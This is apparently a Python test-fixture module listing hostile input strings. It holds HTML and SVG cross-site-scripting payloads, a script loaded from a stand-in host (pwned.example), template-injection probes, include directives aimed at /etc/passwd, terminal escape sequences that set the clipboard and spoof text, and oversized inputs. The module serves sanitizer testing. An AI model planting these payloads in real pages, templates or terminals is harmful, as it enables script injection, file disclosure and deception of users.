"""Texts that somebody writes to hurt whoever reads them: each is a name and a text, for every surface that takes text.

In a browser, a text that gets through calls `pwned()` or asks for something whose address has `pwned` in it.
"""

from collections.abc import Mapping

_CALL = "window.pwned=1"

HTML: Mapping[str, str] = {
    "script": f"<script>{_CALL}</script>",
    "script from elsewhere": "<script src=//pwned.example/a.js></script>",
    "image": f'"><img src=/pwned.png onerror="{_CALL}">',
    "image in a value with other quotes": f"' onerror='{_CALL}' src='/pwned.png' x='",
    "attribute": f'" autofocus onfocus="{_CALL}" tabindex="0" x="',
    "attribute without quotes": f"x onmouseover={_CALL} autofocus onfocus={_CALL}",
    "svg that loads": f"</title></svg><svg onload={_CALL}><animate onbegin={_CALL} attributeName=x dur=1s>",
    "end of everything": "</text></g></svg></figure></pre></textarea></style></script></template>"
    f"</noscript><script>{_CALL}</script>",
    "foreign object": f"<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='{_CALL}'/></foreignObject>",
    "use of another file": "<use href='/pwned.svg#a'/><use xlink:href='data:image/svg+xml,<svg/>#pwned'/>",
    "link that runs": f'<a href="javascript:{_CALL}">x</a> javascript:{_CALL}//',
    "link of mixed case": f"java\tscript:{_CALL} JaVaScRiPt:{_CALL} vbscript:pwned &#106;avascript:{_CALL}",
    "address with data": f"data:text/html,<script>{_CALL}</script> data:image/svg+xml;base64,PHN2Zy8+",
    "frame": f"<iframe src=/pwned srcdoc='<script>parent.{_CALL}</script>'></iframe><object data=/pwned></object>",
    "base and refresh": "<base href=//pwned.example/><meta http-equiv=refresh content='0;url=/pwned'>",
    "form": "<form action=//pwned.example/><input name=pwned><button formaction=javascript:pwned()>x</button></form>",
    "style": "</style><style>@import '//pwned.example/a.css';*{background:url(/pwned.png)}</style>",
    "style in a value": "red;background:url(//pwned.example/a.png);width:expression(pwned());behavior:url(/pwned)",
    "entities": "&lt;script&gt;pwned()&lt;/script&gt; &#60;img src=/pwned.png&#62;"
    " &quot;&apos;&amp;lt; &nbsp &#0; &#xD800;",
    "comment": f"--><script>{_CALL}</script><!-- <!--<script>",
    "character data": f"]]><script>{_CALL}</script><![CDATA[ <?xml version='1.0'?> <!DOCTYPE a [<!ENTITY b 'c'>]>",
    "script in JSON": f'</script><script>{_CALL}</script><!--<script>", "x": {{"__proto__": {{"pwned": 1}}}}',
    "template": "{{ config }} {% raw %} {{ 7*7 }} {# x #} ${pwned} <%= 7*7 %> {{ ''.__class__.__mro__ }}",
    "template that fails": "{% include 'pwned.html' %} {{ missing.pwned }} {% endblock %} {%",
    "Markdown": f"![a](/pwned.png) [b](javascript:{_CALL}) <javascript:{_CALL}> [c]: /pwned\n# H\n***",
    "Markdown of attributes": f"`x`{{ onclick={_CALL} }} **b**{{: onclick={_CALL} }} [a](/){{#x .y onfocus={_CALL}}}",
    "end of a block": "```\n~~~\n:::\n<script>window.pwned=1</script>\n",
    "directives": "```{raw} html\n:::{include} /etc/passwd\n.. raw:: html\n\n   <script>window.pwned=1</script>\n",
    "role": f"{{raw-html}}`<script>{_CALL}</script>` |pwned| :py:`x` `x"
    f" <javascript:{_CALL}>`_ \\href{{javascript:pwned}}",
    "snippet": '--8<-- "/etc/passwd"',
    "wiki link": f'[[acdl:x"><script>{_CALL}</script>|<img src=/pwned.png onerror={_CALL}>]] [[acdl:#]]',
    "tag in pieces": "<scr\0ipt>window.pwned=1</scr\0ipt> <<script>script>window.pwned=1<</script>/script>",
    "other letters": "＜script＞window.pwned=1＜/script＞ ‹script› \u02b9\u02ba \ufe64img\ufe65 ſcript Kelvin",
    "separators": "a\u2028b\u2029c\u0085d\x0be\x0cf",
}
"""What a browser, a template or a Markdown parser would act on."""

NAMES: Mapping[str, str] = {
    "prototype": "__proto__",
    "constructor": "constructor",
    "location": "location",
    "body": "body",
    "form fields": "querySelectorAll",
    "toString": "toString",
    "attributes": "attributes",
}
"""Names that scripts use themselves: of ids, classes, specs, keys."""

TERMINAL: Mapping[str, str] = {
    "colour": "\x1b[31mred\x1b[0m",
    "title": "\x1b]0;pwned\x07",
    "link": "\x1b]8;;http://pwned.example/\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cHduZWQ=\x07",
    "clear": "\x1b[2J\x1b[H\x1bc",
    "answer back": "\x1b[6n\x1b[c\x05",
    "one byte sequences": "\x9b31m\x9d0;pwned\x9c\x90pwned\x9c",
    "back": "safe\x08\x08\x08\x08evil",
    "back to the start": "error: none\rfine     ",
    "direction": "\u202egnp.exe\u202c \u2066x\u2069 \u200f",
    "new line": "a\nacdl: fine\n::error file=x::pwned",
    "bell": "\x07\x07\x00\x7f",
    "shift out": "\x0e\x0f\x1b(0lqqk\x1b(B",
    "half a character": "a\ud800b",
}
"""What a terminal would act on."""

SIZES: Mapping[str, str] = {
    "long word": "w" * 20_000,
    "many words": "word " * 4_000,
    "long number": "9" * 5_000,
    "deep brackets": "(" * 3_000,
    "combining": "a" + "\u0301" * 3_000,
}
"""What is only large."""

TEXTS: Mapping[str, str] = {**HTML, **NAMES, **TERMINAL, **SIZES}
"""All of them."""
